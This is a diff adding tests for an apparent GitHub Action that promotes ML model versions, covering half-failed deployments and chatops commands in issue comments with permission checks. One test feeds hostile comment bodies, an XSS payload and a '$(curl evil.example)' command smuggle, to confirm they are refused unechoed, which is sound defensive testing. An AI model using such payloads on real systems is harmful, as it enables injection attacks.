@@ -254,6 +254,48 @@ describe('actions/promote run as the runner runs it', () => {
     expect((await state()).stages.get('production')?.version.version).toBe('v1.0.0');
   });
 
+  it('a promotion that breaks half-way (the tag write refused after the deployment started) still ends its deployment, in error; a re-run completes it', async () => {
+    const commit = await seedVersion('v1.0.0', 'pass');
+    // The token can deploy but not push tags (a workflow granting `deployments: write` without `contents: write`).
+    const refused = gh.fail({
+      operationId: 'git/create-ref',
+      status: 403,
+      body: { message: 'Resource not accessible by integration' },
+      times: Infinity,
+    });
+
+    const run = await dispatch({ version: 'v1.0.0', stage: 'production' });
+
+    expect(run.exitCode).toBe(1);
+    expect(errors(run).join('\n')).toContain('Resource not accessible by integration');
+    expect(refused.hits).toBe(1);
+    expect(gh.state.git.refs.has('refs/tags/churn#production#1')).toBe(false);
+    const [broken] = gh.state.deployments.list({});
+    expect(broken).toMatchObject({ sha: commit, environment: 'churn-production' });
+    expect(deploymentStates(broken!.id)).toEqual(['in_progress', 'error']);
+
+    refused.cancel();
+    const again = await dispatch({ version: 'v1.0.0', stage: 'production' });
+
+    expect(again.exitCode).toBe(0);
+    expect(again.outputs).toMatchObject({ result: 'promoted', tag: 'churn#production#1' });
+    const [fixed] = gh.state.deployments.list({});
+    expect(fixed!.id).not.toBe(broken!.id);
+    expect(deploymentStates(fixed!.id)).toEqual(['in_progress', 'success']);
+  });
+
+  it('a deployment whose in-progress status GitHub refused still ends in error, and nothing is promoted', async () => {
+    await seedVersion('v1.0.0', 'pass');
+    gh.fail({ operationId: 'repos/create-deployment-status', status: 422, times: 1 });
+
+    const run = await dispatch({ version: 'v1.0.0', stage: 'production' });
+
+    expect(run.exitCode).toBe(1);
+    const [deployment] = gh.state.deployments.list({});
+    expect(deploymentStates(deployment!.id)).toEqual(['error']);
+    expect(gh.state.git.refs.has('refs/tags/churn#production#1')).toBe(false);
+  });
+
   it('names the missing dispatch inputs and an unknown event in one line each', async () => {
     const missing = await dispatch({ stage: 'production' });
     expect(missing.exitCode).toBe(1);
@@ -435,5 +477,210 @@ describe('actions/promote run as the runner runs it', () => {
       ]);
       expect(writes()).toEqual([]);
     });
+  });
+  describe('on issue_comment (chatops)', () => {
+    const CHATOPS_TIMEOUT = 90_000;
+
+    /** A comment on `issue` by `author` in an `issue_comment` event whose actor is `actor` (another person). */
+    function comment(
+      body: string,
+      options: { issue: number; author: string; actor?: string; action?: string; pullRequest?: boolean; at?: Date },
+    ): Promise<ActionRun> {
+      const { issue, author, actor = 'mallory', action = 'created', pullRequest = false, at = new Date() } = options;
+      const commentId = 9000 + issue;
+      return runActionBundle({
+        action: 'promote',
+        inputs: {},
+        env: { ...gh.env(TOKEN), GITHUB_ACTOR: actor, GITHUB_RUN_ID: '43' },
+        githubToken: TOKEN,
+        eventName: 'issue_comment',
+        event: {
+          action,
+          issue: {
+            number: issue,
+            ...(pullRequest && { pull_request: { url: `${gh.url}/repos/acme/churn/pulls/${issue}` } }),
+          },
+          comment: {
+            id: commentId,
+            body,
+            user: { login: author, type: 'User' },
+            html_url: `https://github.com/acme/churn/issues/${issue}#issuecomment-${commentId}`,
+            created_at: at.toISOString(),
+          },
+          sender: { login: actor, type: 'User' },
+        },
+        cwd: workspace,
+        timeoutMs: 60_000,
+      });
+    }
+
+    /** The replies on `issue` as plain text: escaping undone, and the zero-width spaces that defuse @ and #. */
+    const replies = (issue: number) =>
+      [...gh.state.issues.comments.values()]
+        .filter((c) => c.issueNumber === issue)
+        .map((c) => c.body.replace(/&#8203;/g, '').replace(/\\(.)/g, '$1'));
+    const permissionLookups = () =>
+      gh.requestsMatching({ operationId: 'repos/get-collaborator-permission-level' }).map((r) => r.canonicalPath);
+    const stageTags = () => [...gh.state.git.refs.keys()].filter((ref) => ref.startsWith('refs/tags/churn#'));
+
+    it(
+      "promotes for a commenter with write permission (the comment's author, asked of the API) and replies with what the stage held before",
+      async () => {
+        await seedVersion('v1.0.0', 'pass');
+        await seedVersion('v1.1.0', 'pass', 0.91);
+        gh.state.setPermission('ada', 'write');
+        gh.state.setPermission('mallory', 'read');
+        const { number } = gh.state.issues.addIssue({ title: 'Release churn' });
+
+        const first = await comment('/mlgate promote churn@v1.1.0 production', { issue: number, author: 'ada' });
+        expect(errors(first)).toEqual([]);
+        expect(first.outputs).toMatchObject({ result: 'promoted', tag: 'churn#production#1', version: 'v1.1.0' });
+
+        // A rollback by command: the reply says what production held.
+        const back = await comment('  /mlgate promote churn@v1.0.0 production\n', { issue: number, author: 'ada' });
+
+        expect(back.exitCode).toBe(0);
+        expect(back.outputs).toMatchObject({
+          result: 'promoted',
+          tag: 'churn#production#2',
+          version: 'v1.0.0',
+          'previous-version': 'v1.1.0',
+        });
+        expect(permissionLookups()).toEqual([
+          '/repos/acme/churn/collaborators/ada/permission',
+          '/repos/acme/churn/collaborators/ada/permission',
+        ]);
+        const [, reply] = replies(number);
+        expect(reply).toContain(
+          'Promoted `churn@v1.0.0` to `production`: `churn#production#2`. `production` held `v1.1.0` before (`churn#production#1`).',
+        );
+        const message = tagMessage('churn#production#2');
+        expect(message.kind === 'event' && message.event).toMatchObject({
+          actor: 'ada',
+          reason: expect.stringContaining(`promote in issue #${number}`),
+        });
+        const deployments = gh.state.deployments.list({ environment: 'churn-production' });
+        // Newest first; GitHub marks the deployment replaced by the rollback inactive.
+        expect(deployments.map((d) => deploymentStates(d.id))).toEqual([
+          ['in_progress', 'success'],
+          ['in_progress', 'success', 'inactive'],
+        ]);
+      },
+      CHATOPS_TIMEOUT,
+    );
+
+    it('refuses a commenter with read permission, though the actor is an admin: the reply says so, nothing is written', async () => {
+      await seedVersion('v1.0.0', 'pass');
+      gh.state.setPermission('rita', 'read');
+      gh.state.setPermission('mallory', 'admin');
+      const { number } = gh.state.issues.addIssue({});
+
+      const run = await comment('/mlgate promote churn@v1.0.0 production', { issue: number, author: 'rita' });
+
+      expect(run.exitCode).toBe(1);
+      expect(run.outputs.result).toBe('refused');
+      expect(permissionLookups()).toEqual(['/repos/acme/churn/collaborators/rita/permission']);
+      expect(replies(number)).toEqual([
+        expect.stringContaining(
+          'Refused: `churn@v1.0.0` cannot enter `production`:\n\n- the commenter has read permission on the repository; promoting takes write (or admin)\n',
+        ),
+      ]);
+      expect(replies(number)[0]).not.toContain('force');
+      expect(stageTags()).toEqual([]);
+      expect(gh.state.deployments.list({})).toEqual([]);
+    });
+
+    it('does nothing for an edited comment, even one that now reads as a command', async () => {
+      await seedVersion('v1.0.0', 'pass');
+      gh.state.setPermission('ada', 'write');
+      const { number } = gh.state.issues.addIssue({});
+      const before = gh.requests.length;
+
+      const run = await comment('/mlgate promote churn@v1.0.0 production', {
+        issue: number,
+        author: 'ada',
+        action: 'edited',
+      });
+
+      expect(run.exitCode).toBe(0);
+      expect(run.outputs).toEqual({});
+      expect(run.stdout).toContain('The comment was edited, not created: only new comments are commands.');
+      expect(gh.requests.slice(before)).toEqual([]);
+      expect(replies(number)).toEqual([]);
+    });
+
+    it.each([
+      ['a second line', '/mlgate promote churn@v1.0.0 production\n<img src=x onerror=alert(1)>'],
+      ['a trailing word', '/mlgate promote churn@v1.0.0 production $(curl evil.example)'],
+      ['another verb', '/mlgate deploy-everything churn@v1.0.0 production'],
+      ['a look-alike character', '/mlgate promote churn@v1.0.0 prоduction'],
+    ])(
+      'refuses a comment outside the grammar (%s) without echoing it, before asking for permissions',
+      async (_, body) => {
+        gh.state.setPermission('ada', 'write');
+        const { number } = gh.state.issues.addIssue({});
+
+        const run = await comment(body, { issue: number, author: 'ada' });
+
+        expect(run.exitCode).toBe(1);
+        expect(run.outputs.result).toBe('refused');
+        const [reply] = replies(number);
+        expect(reply).toContain('Refused the comment:');
+        expect(reply).toContain('not a command mlgate takes');
+        expect(reply).not.toContain('force');
+        expect(reply).toContain('`/mlgate promote <model>@<version> <stage>`');
+        for (const part of ['onerror', 'curl', 'evil', 'deploy-everything', 'prоduction']) {
+          expect(reply).not.toContain(part);
+          expect(run.summary).not.toContain(part);
+          expect(run.stdout).not.toContain(part);
+        }
+        expect(permissionLookups()).toEqual([]);
+        expect(stageTags()).toEqual([]);
+      },
+    );
+
+    it(
+      'binds the command to its commit: on a pull request, a version registered at the head promotes, one registered elsewhere or after the comment is refused',
+      async () => {
+        const head = await seedVersion('v1.0.0', 'pass');
+        const other = await seedVersion('v1.1.0', 'pass', 0.91);
+        gh.state.setPermission('ada', 'write');
+        const pull = gh.state.issues.addPull({ head: { ref: 'train-v1', sha: head } });
+        const number = pull.number;
+
+        const elsewhere = await comment('/mlgate promote churn@v1.1.0 staging', {
+          issue: number,
+          author: 'ada',
+          pullRequest: true,
+        });
+        expect(elsewhere.exitCode).toBe(1);
+        expect(replies(number)[0]).toContain(
+          `churn@v1.1.0 is registered at commit ${other.slice(0, 7)}, which is neither the head (${head.slice(0, 7)}) nor the merge commit of pull request #${number}`,
+        );
+
+        const early = await comment('/mlgate promote churn@v1.0.0 staging', {
+          issue: number,
+          author: 'ada',
+          pullRequest: true,
+          at: new Date(Date.now() - 3_600_000),
+        });
+        expect(early.exitCode).toBe(1);
+        expect(replies(number)[1]).toContain(
+          'churn@v1.0.0 was registered after the comment was written (or one of the times is unknown); comment again to promote it',
+        );
+        expect(stageTags()).toEqual([]);
+        expect(gh.state.deployments.list({})).toEqual([]);
+
+        const bound = await comment('/mlgate promote churn@v1.0.0 staging', {
+          issue: number,
+          author: 'ada',
+          pullRequest: true,
+        });
+        expect(bound.exitCode).toBe(0);
+        expect(bound.outputs).toMatchObject({ result: 'promoted', tag: 'churn#staging#1', version: 'v1.0.0' });
+        expect(replies(number)[2]).toContain('`staging` held nothing before.');
+      },
+      CHATOPS_TIMEOUT,
+    );
   });
 });
